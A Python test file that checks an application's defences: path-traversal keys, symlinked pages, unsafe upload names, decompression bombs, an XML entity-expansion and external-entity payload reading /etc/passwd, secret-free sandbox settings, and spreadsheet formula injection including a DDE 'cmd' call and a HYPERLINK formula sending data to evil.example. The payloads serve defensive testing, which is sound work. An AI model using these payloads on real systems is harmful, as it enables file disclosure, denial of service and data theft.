"""Files that are made to harm whoever opens them, and names that lead to other files."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from serai.app import pages
from serai.features.audit import api as audit
from serai.features.media.api import taking
from serai.kit import sandbox
from serai.kit.blobs import BadKey, Folder, checked
from serai.kit.cells import guarded, unguarded
from serai.kit.errors import NotFound

pytestmark = [pytest.mark.anyio, pytest.mark.promise("SEC-16")]
ELSEWHERE = (
    "../outside", "..", ".", "/etc/passwd", "//etc/passwd", "a/../../outside", "a/./b", "a//b",
    "a\\..\\outside", "%2e%2e/outside", "..%2foutside", "a\x00b", "C:\\outside", "~/outside", "",
    "a" * 300, "/".join("abcdefghij"), ".hidden", "a/.hidden", "ａ", "a b", "a\n",
)  # fmt: skip


def test_no_key_of_the_store_leads_out_of_it(tmp_path: Path):
    for key in ELSEWHERE:
        with pytest.raises(BadKey):
            checked(key)
        with pytest.raises(BadKey):
            Folder(tmp_path)._path(key)  # pyright: ignore[reportPrivateUsage]


def test_no_address_of_a_page_leads_out_of_the_pages(tmp_path: Path):
    folder, outside = tmp_path / "pages", tmp_path / "outside"
    folder.mkdir()
    outside.write_text("secret")
    (tmp_path / "pages-too").mkdir()
    (tmp_path / "pages-too" / "secret").write_text("secret")
    (folder / "link").symlink_to(outside)
    asked = (*ELSEWHERE, "link", "../pages-too/secret", str(outside), "a" * 5000, "\ud800")
    for path in asked:
        with pytest.raises(NotFound):  # nothing is built here, not even the shell
            pages._file(folder, path)  # pyright: ignore[reportPrivateUsage]


def test_a_file_that_is_taken_in_keeps_no_folder_in_its_name():
    for given in ELSEWHERE:
        name = taking._name(given)  # pyright: ignore[reportPrivateUsage]
        assert name
        assert not set(name) & set('/\\\x00\n:*?"<>|'), name
        assert name not in {".", ".."}


def png(width: int, height: int) -> bytes:
    """A few bytes that say they are a picture of so many pixels, all of one colour."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        sum_ = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + sum_

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(width // 8 + 1) * min(height, 2000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def sheet(xml: bytes, *, times: int = 1) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", "<Types/>")
        packed.writestr("xl/workbook.xml", xml)
        for number in range(times):
            packed.writestr(f"xl/worksheets/sheet{number}.xml", b" " * 50 * 1024**2)
    return file.getvalue()


LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e SYSTEM "file:///etc/passwd">]><a>&d;&e;</a>"""


async def test_a_picture_a_table_or_a_paper_that_unpacks_without_end_is_not_opened(tmp_path: Path):
    source, target = tmp_path / "source", tmp_path / "target"
    source.write_bytes(png(60_000, 60_000))
    seen = await sandbox.look(source, "image/png", target)
    assert (seen.has_thumbnail, target.exists()) == (False, False)

    source.write_bytes(b"%PDF-1.7\n" + b"1 0 obj<</Type/Catalog/Pages 1 0 R>>endobj\n" * 50_000)
    seen = await sandbox.look(source, "application/pdf", target)
    assert (seen.has_thumbnail, target.exists()) == (False, False)

    for content, why in ((sheet(b"<a/>", times=9), "packed"), (sheet(LAUGHS), "type")):
        source.write_bytes(content)
        assert await sandbox.rows_of(source, target, 1000, 100) == why
        assert b"root:" not in target.read_bytes()


def test_what_opens_strangers_files_is_told_none_of_our_settings(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("SERAI_KEYS", "a:secret")
    monkeypatch.setenv("SERAI_DATABASE_URL", "postgresql://secret")
    assert "secret" not in str(sandbox.without_secrets())


def test_no_cell_of_an_export_is_a_formula():
    for text in (
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＠SUM(A1)",
        '=HYPERLINK("https://evil.example?"&A1)', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    ):  # fmt: skip
        assert guarded(text) == f"'{text}"
        assert unguarded(guarded(text)) == text
        assert audit._cell(text) == f"'{text}"  # pyright: ignore[reportPrivateUsage]
    for text in ("", "Ada", "+15550100123", "a=b", "'quoted", "1-2"):
        assert guarded(text) == text
        assert audit._cell(text) == text  # pyright: ignore[reportPrivateUsage]
